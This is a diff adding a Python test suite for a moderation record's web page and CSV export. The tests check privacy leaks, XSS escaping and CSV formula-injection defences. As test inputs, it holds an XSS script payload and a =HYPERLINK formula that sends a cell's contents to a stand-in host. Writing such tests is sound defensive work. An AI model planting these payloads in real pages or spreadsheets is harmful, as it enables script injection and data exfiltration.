@@ -1,0 +1,227 @@
+"""The public record and the statistics over HTTP: what they say, and what nobody may learn from them."""
+
+import csv
+import io
+import re
+import secrets
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from moderation import record
+from moderation.record import Recorded
+from rooms.store import Store
+from tests import decided
+from tests.debate import Debate, gather
+from tests.serving import serving
+from tests.web.reading import read, running
+from tests.world import Someone, World
+
+PAGE, FILE = "/moderation/record", "/moderation/record.csv"
+NUMBERS, NUMBERS_FILE = "/moderation/statistics", "/moderation/statistics.csv"
+NOW = datetime.now(UTC)
+HOUR = timedelta(hours=1)
+
+
+async def history(
+    world: World, debate: Debate, people: list[Someone], mark: str, what: str = "hide"
+) -> int:
+    """A case that somebody reported, an act, and a review that upheld it; every word in it has the mark. The act."""
+    moderator, reviewer, reporter = (each.id for each in people)
+    rule = None if what in {"approve", "restore"} else "insult"
+    async with world.sql() as conn, conn.transaction():
+        case_id = await decided.case(conn, debate.post_id, opened_at=NOW - 5 * HOUR)
+        said = f"{mark} lời báo"
+        await decided.report(
+            conn, case_id, reporter, reason="insult", at=NOW - 5 * HOUR, words=said
+        )
+        act_id = await decided.act(
+            conn, case_id, moderator, what, at=NOW - 2 * HOUR, reason=rule,
+            public=f"Nêu đích danh người khác {mark}.", private=f"{mark} ghi chú nội bộ",
+        )  # fmt: skip
+        if rule:
+            await decided.ask(conn, act_id, at=NOW - HOUR, words=f"{mark} xin xem lại")
+            await decided.rule(
+                conn, act_id, reviewer, upheld=True, at=NOW, note=f"Vẫn là xúc phạm {mark}."
+            )
+    return act_id
+
+
+async def marked(world: World, mark: str, visibility: str) -> tuple[Debate, list[Someone]]:
+    """A debate whose room, thread, people and words have the mark, and three who come to moderate and report."""
+    names = [f"{mark} {name}" for name in ("Một", "Hai", "Ba", "Bốn", "Năm", "Sáu", "Bảy", "Tám", "Chín")]  # fmt: skip
+    everyone = await world.people(*names)
+    debate = await gather(world, everyone[:6], visibility)
+    about = {"title": f"{mark} phòng", "description": f"{mark} giới thiệu"}
+    await debate.owner.do("PUT", debate.room, visibility=visibility, **about)
+    thread = await debate.member.do(
+        "POST", f"{debate.room}/threads", title=f"{mark} chủ đề", body=f"{mark} lời", kind="opinion"
+    )
+    debate.thread_id = thread["result"]["thread"]["id"]
+    debate.post_id = thread["result"]["post"]["id"]
+    return debate, everyone[6:]
+
+
+def of_act(page: str, act_id: int) -> str:
+    """The article of an act."""
+    found = re.search(rf'<article id="a{act_id}".*?</article>', page, re.DOTALL)
+    assert found is not None, f"#a{act_id} is not on the page"
+    return found[0]
+
+
+async def every_output(world: World, who: Someone | None = None) -> dict[str, str]:
+    paths = [PAGE, f"{PAGE}?lang=en", FILE, NUMBERS, NUMBERS_FILE]
+    return {path: (await read(world, path, who)).text for path in paths}
+
+
+@pytest.mark.parametrize("visibility", ["public", "members", "invited"])
+@pytest.mark.parametrize("what", ["hide", "remove", "approve"])
+async def test_nothing_gets_out_but_the_notes_and_a_public_place(
+    world: World, visibility: str, what: str
+) -> None:
+    mark = f"M{secrets.token_hex(4)}"
+    debate, people = await marked(world, mark, visibility)
+    act_id = await history(world, debate, people, mark, what)
+    open_ = visibility == "public"
+    allowed = [f"Nêu đích danh người khác {mark}."]
+    allowed += [f"Vẫn là xúc phạm {mark}."] if what != "approve" else []
+    allowed += [f"{mark} phòng"] if open_ else []
+    allowed += [f"{mark} chủ đề"] if open_ and what != "approve" else []
+    for reader in (None, debate.outsider, debate.owner):
+        for path, told in (await every_output(world, reader)).items():
+            if path.startswith(PAGE):
+                assert all(each in told for each in allowed), (path, allowed)
+            rest = told
+            for each in allowed:
+                rest = rest.replace(each, "")
+            assert mark not in rest, path
+            shown = open_ and what != "approve"
+            assert (f"/transcript/p/{debate.post_id}" in told) == (
+                shown and path.startswith(PAGE) and not path.endswith(".csv")
+            )
+    page = of_act((await read(world, PAGE)).text, act_id)
+    assert ("Một phòng không công khai" in page) == (not open_)
+    assert ("Phòng " + f"{mark} phòng" in page) == open_
+    assert "Người quyết định: kiểm duyệt viên · có người báo vi phạm · quyết định sau 3 giờ" in page
+    if what == "approve":
+        assert "Không vi phạm" in page
+        assert "href" not in page.partition("</header>")[2], "an acquitted post is not pointed at"
+    else:
+        assert "Quy tắc 4 (Xúc phạm)" in page
+        assert "Người viết đề nghị xem xét lại lúc" in page
+        assert "giữ nguyên quyết định" in page
+
+
+async def test_what_was_overturned_says_so_and_is_pointed_at_no_more(
+    world: World, public: Debate
+) -> None:
+    hidden, later = public.observer.id, public.owner.id
+    async with world.sql() as conn, conn.transaction():
+        case_id = await decided.case(conn, public.post_id, opened_at=NOW, source="moderator")
+        act_id = await decided.act(conn, case_id, hidden, "remove", at=NOW, reason="false")
+        await decided.ask(conn, act_id, at=NOW)
+        before = (await read(world, PAGE)).text
+        restored = await decided.rule(
+            conn, act_id, later, upheld=False, at=NOW, note="Số liệu đúng."
+        )
+    assert f'id="a{act_id}"' not in before, "what is not committed is not told"
+    page = (await read(world, PAGE)).text
+    first, second = of_act(page, act_id), of_act(page, restored or 0)
+    assert "Gỡ bỏ một ý kiến · Quy tắc 5 (Sai sự thật)" in first
+    assert "kiểm duyệt viên tự thấy" in first
+    assert "hủy quyết định" in first
+    assert "Giải thích: Số liệu đúng." in first
+    assert f'Đã bị hủy bỏ bởi <a href="#a{restored}">#{restored}</a>' in first
+    assert "Khôi phục một ý kiến" in second
+    assert f'Hủy bỏ <a href="#a{act_id}">#{act_id}</a>' in second
+    for act in (first, second):
+        assert "Phòng Dữ liệu mở" in act
+        assert "/transcript" not in act
+
+
+async def test_moderators_are_named_where_the_portal_says_so(
+    world: World, database_url: str, public: Debate
+) -> None:
+    (moderator,) = await world.people("Vũ Đức Kiểm")
+    async with world.sql() as conn:
+        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
+        act_id = await decided.act(conn, case_id, moderator.id, "hide", at=NOW, reason="spam")
+    assert all("Vũ Đức Kiểm" not in told for told in (await every_output(world)).values())
+    async with serving(database_url, moderators_by_name=True) as naming:
+        told = await every_output(naming)
+    assert "Người quyết định: Vũ Đức Kiểm" in of_act(told[PAGE], act_id)
+    assert "Vũ Đức Kiểm" in told[FILE]
+    assert "Vũ Đức Kiểm" not in told[NUMBERS] + told[NUMBERS_FILE]
+
+
+async def test_notes_are_text_and_formulas_stay_asleep(world: World, public: Debate) -> None:
+    payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
+    formula = '=HYPERLINK("https://vidu.invalid/?"&A1;"Bấm vào đây")'
+    async with world.sql() as conn:
+        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
+        act_id = await decided.act(
+            conn, case_id, public.observer.id, "hide", at=NOW, reason="spam", public=payload
+        )
+        await decided.ask(conn, act_id, at=NOW)
+        await decided.rule(
+            conn, act_id, public.owner.id, upheld=True, at=NOW, note=f"{formula}\n@dòng hai"
+        )
+    page = (await read(world, PAGE)).text
+    assert running(page) == []
+    assert "&lt;script&gt;alert(1)" in page
+    lines = list(csv.DictReader(io.StringIO((await read(world, FILE)).text.removeprefix("\ufeff"))))
+    (line,) = [line for line in lines if line["id"] == str(act_id)]
+    assert line["public_note"] == payload
+    assert line["review_note"] == f"'{formula}\n@dòng hai"
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
+async def test_a_cell_that_begins_like_a_formula_is_text(
+    world: World, public: Debate, begins: str
+) -> None:
+    async with world.sql() as conn:
+        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
+        act_id = await decided.act(
+            conn, case_id, public.observer.id, "approve", at=NOW, public=f"{begins}1+1, “năm”"
+        )
+    told = (await read(world, FILE)).text
+    (line,) = [
+        line
+        for line in csv.DictReader(io.StringIO(told.removeprefix("\ufeff"), newline=""))
+        if line["id"] == str(act_id)
+    ]
+    assert line["public_note"] == f"'{begins}1+1, “năm”"
+
+
+async def test_the_file_says_what_the_struct_says(world: World, public: Debate) -> None:
+    await history(
+        world, public, [public.owner, public.observer, public.outsider], "Đủ dấu tiếng Việt"
+    )
+    answer = await read(world, FILE)
+    year = (NOW + 7 * HOUR).year
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert (
+        answer.headers["content-disposition"]
+        == f'attachment; filename="moderation-record-{year}.csv"'
+    )
+    assert answer.content.startswith(b"\xef\xbb\xbf"), "spreadsheets know it for UTF-8"
+    store: Store = world.app.state.store
+    async with store.reading() as tx:
+        told = await record.year(tx, year, None, by_name=False)
+    text = answer.text.removeprefix("\ufeff")
+    lines = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(lines) == len(told.acts) > 0
+    for line, act in zip(lines, told.acts, strict=True):
+        for name in Recorded.__struct_fields__:
+            assert line[name].removeprefix("'") == written(getattr(act, name)), name
+        assert line["rule"] == ("4" if act.reason == "insult" else line["rule"])
+
+
+def written(value: Any) -> str:
+    """A value as the file has it."""
+    if isinstance(value, datetime):
+        return (value.astimezone(UTC) + 7 * HOUR).strftime("%Y-%m-%dT%H:%M:%S+07:00")
+    if isinstance(value, float):
+        return f"{value:.2f}"
+    return "" if value is None else str(value)
